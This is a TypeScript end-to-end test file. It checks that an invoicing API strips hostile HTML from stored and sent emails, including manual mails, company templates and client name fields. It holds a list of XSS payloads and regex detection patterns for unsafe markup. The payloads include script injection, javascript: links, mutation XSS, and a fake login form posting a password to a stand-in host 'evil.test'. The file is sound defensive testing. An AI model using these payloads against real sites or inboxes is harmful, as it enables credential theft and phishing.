import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readLocalMailbox, type CapturedEmail } from '../../functions/adapters/mailer/local.js';
import { startTestApi, type TestApi } from '../support/stack.js';

/**
 * HTML sanitising of mail end to end: hostile HTML sent by staff (`POST /v1/clients/{id}/emails`), put into a company
 * template (`PUT /v1/email-templates/{name}`) or smuggled in through a client's own fields into a template's
 * unescaped `{{{…}}}`, must be clean both in what Billow stores (`GET /v1/emails/{id}`) and in what the SES stand-in
 * received; the harmless formatting around it must survive.
 */

let api: TestApi;

beforeAll(async () => {
  api = await startTestApi();
});
afterAll(async () => {
  await api.stack.stop();
});

/** Each payload alone in a mail, so one that slips through is named. */
const PAYLOADS: Record<string, string> = {
  'script element': '<script>alert("x1")</script><SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  'event handlers': '<p onclick="steal()">p</p><img src="https://x.test/a.png" onerror="alert(2)"><div onmouseover=alert(3)>d</div><body onload=alert(4)>',
  'javascript: link': '<a href="javascript:alert(5)">a</a>',
  'mixed-case JaVaScRiPt: link': '<a href="JaVaScRiPt:alert(6)">a</a>',
  'javascript: with tab, newline and entities':
    '<a href="  java\tscript:alert(7)">a</a><a href="java&#x0A;script:alert(8)">b</a><a href="&#106;avascript:alert(9)">c</a>',
  'vbscript: link': '<a href="vbscript:msgbox(10)">a</a>',
  iframe: '<iframe src="https://evil.test/frame"></iframe><iframe srcdoc="<script>alert(11)</script>"></iframe>',
  'form and inputs':
    '<form action="https://evil.test/steal" method="post"><input name="password" type="password"><button>Log in</button><select><option>x</option></select><textarea>t</textarea></form>',
  'svg onload': '<svg onload=alert(12)><circle r="1"/></svg><svg><script>alert(13)</script></svg>',
  'data: URLs':
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">a</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTUpPjwvc3ZnPg==">',
  'CSS expression and url()':
    '<div style="width: expression(alert(16))">a</div><p style="background-image: url(javascript:alert(17))">b</p><p style="behavior: url(https://evil.test/x.htc)">c</p>',
  'style, link, meta and base':
    '<style>body{background:url(https://evil.test/t)}</style><link rel="stylesheet" href="https://evil.test/x.css"><meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  'object and embed': '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
  'mutation XSS':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(18)></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(19)>"></noscript>',
  'protocol-relative and formaction': '<a href="//evil.test/x">a</a><button formaction="javascript:alert(20)">b</button>',
};

/** What must never be in a stored or sent mail's HTML. */
const UNSAFE = [
  /<script/i,
  /<iframe/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<textarea/i,
  /<svg/i,
  /<math/i,
  /<object/i,
  /<embed/i,
  /<style/i,
  /<link/i,
  /<meta/i,
  /<base/i,
  /<body/i,
  /\son\w+\s*=/i,
  /(java|vb)\s*script\s*:/i,
  /href\s*=\s*["']?\s*data:/i,
  /src\s*=\s*["']?\s*data:/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /behavior/i,
  /href\s*=\s*["']?\/\//i,
  /srcdoc/i,
];

const unsafeIn = (html: string | undefined | null): string[] => UNSAFE.filter((re) => re.test(html ?? '')).map(String);

async function newClient(extra: Record<string, unknown> = {}): Promise<{ id: string; email: string }> {
  const email = `sanitise-${randomBytes(4).toString('hex')}@example.com`;
  const res = await api.staff('POST', '/v1/clients', { firstName: 'Ada', lastName: 'Lovelace', email, ...extra });
  if (res.status !== 201) throw new Error(`client: ${res.status} ${res.text}`);
  return { id: res.body.id, email };
}

/** The mail the SES stand-in captured with this message id. */
async function captured(messageId: string): Promise<CapturedEmail> {
  const found = (await readLocalMailbox(api.facts.mailUrl)).find((m) => m.messageId === messageId);
  if (!found) throw new Error(`no captured mail ${messageId}`);
  return found;
}

describe('hostile HTML in a manual email', () => {
  it.each(Object.entries(PAYLOADS))('%s: stored and sent clean, the formatting kept', async (_name, payload) => {
    const client = await newClient();
    const html = `<p>Dear <b>client</b>, see <a href="https://billow.example/pay">your invoice</a>.</p>${payload}<p>Regards</p>`;
    const sent = await api.staff('POST', `/v1/clients/${client.id}/emails`, { subject: 'Your invoice', html });
    expect(sent.status, sent.text).toBe(201);
    const stored = await api.staff('GET', `/v1/emails/${sent.body.id}`);
    expect(stored.status).toBe(200);
    const mail = await captured(sent.body.messageId);
    expect(mail.to).toEqual([client.email]);
    for (const [where, part] of [
      ['stored', stored.body.html],
      ['sent', mail.html],
    ] as const) {
      expect(unsafeIn(part), `${where}: ${part}`).toEqual([]);
      expect(part, where).toContain('<b>client</b>');
      expect(part, where).toContain('<a href="https://billow.example/pay">your invoice</a>');
      expect(part, where).toContain('Regards');
    }
    // A resend sends what was stored.
    const resent = await api.staff('POST', `/v1/emails/${sent.body.id}/resend`, {});
    expect(resent.status, resent.text).toBe(201);
    expect(unsafeIn((await captured(resent.body.messageId)).html)).toEqual([]);
  });
});

describe('hostile HTML in a company template, rendered into a sent mail', () => {
  it('an invoice delivery with a hostile template and a client named like markup arrives clean', async () => {
    const client = await newClient({
      firstName: '<img src=x onerror=alert("first")>',
      lastName: '<script>alert("last")</script>',
      company: '<a href="javascript:alert(1)">Evil Co</a>',
    });
    const template = await api.staff('PUT', '/v1/email-templates/invoice_delivery', {
      subject: 'Invoice #{{invoice.number}}',
      // The triple mustache puts the client's own fields in unescaped: the rendered HTML is sanitised after rendering.
      html: `<p>Hello <b>{{{client.firstName}}}</b> {{{client.lastName}}} of {{{client.company}}}, {{client.firstName}}</p>${Object.values(PAYLOADS).join('')}<p>Invoice #{{invoice.number}}</p>`,
      text: 'Invoice #{{invoice.number}}',
    });
    expect(template.status, template.text).toBe(200);
    try {
      const invoice = await api.staff('POST', `/v1/clients/${client.id}/invoices`, {
        status: 'open',
        lines: [{ description: 'Hosting', quantity: 1, unitAmount: 1500 }],
      });
      expect(invoice.status, invoice.text).toBe(201);
      const delivered = await api.staff('POST', `/v1/invoices/${invoice.body.id}/deliver`);
      expect(delivered.status, delivered.text).toBe(202);
      let log: { data: Array<{ id: string; messageId: string | null; template: string | null }> } = { data: [] };
      for (let i = 0; i < 100 && !log.data.some((m) => m.template === 'invoice_delivery' && m.messageId); i++) {
        log = (await api.staff('GET', `/v1/clients/${client.id}/emails`)).body;
        if (!log.data.some((m) => m.template === 'invoice_delivery' && m.messageId)) await new Promise((r) => setTimeout(r, 50));
      }
      const entry = log.data.find((m) => m.template === 'invoice_delivery' && m.messageId);
      if (!entry) throw new Error(`no invoice mail in the log: ${JSON.stringify(log)}`);
      const stored = (await api.staff('GET', `/v1/emails/${entry.id}`)).body;
      const mail = await captured(entry.messageId!);
      for (const [where, part] of [
        ['stored', stored.html],
        ['sent', mail.html],
      ] as const) {
        expect(unsafeIn(part), `${where}: ${part}`).toEqual([]);
        expect(part, where).toContain(`Invoice #${invoice.body.number}`);
        expect(part, where).toMatch(/<b>[^<]*<\/b>/);
      }
    } finally {
      expect((await api.staff('DELETE', '/v1/email-templates/invoice_delivery')).status).toBe(204);
    }
  });
});
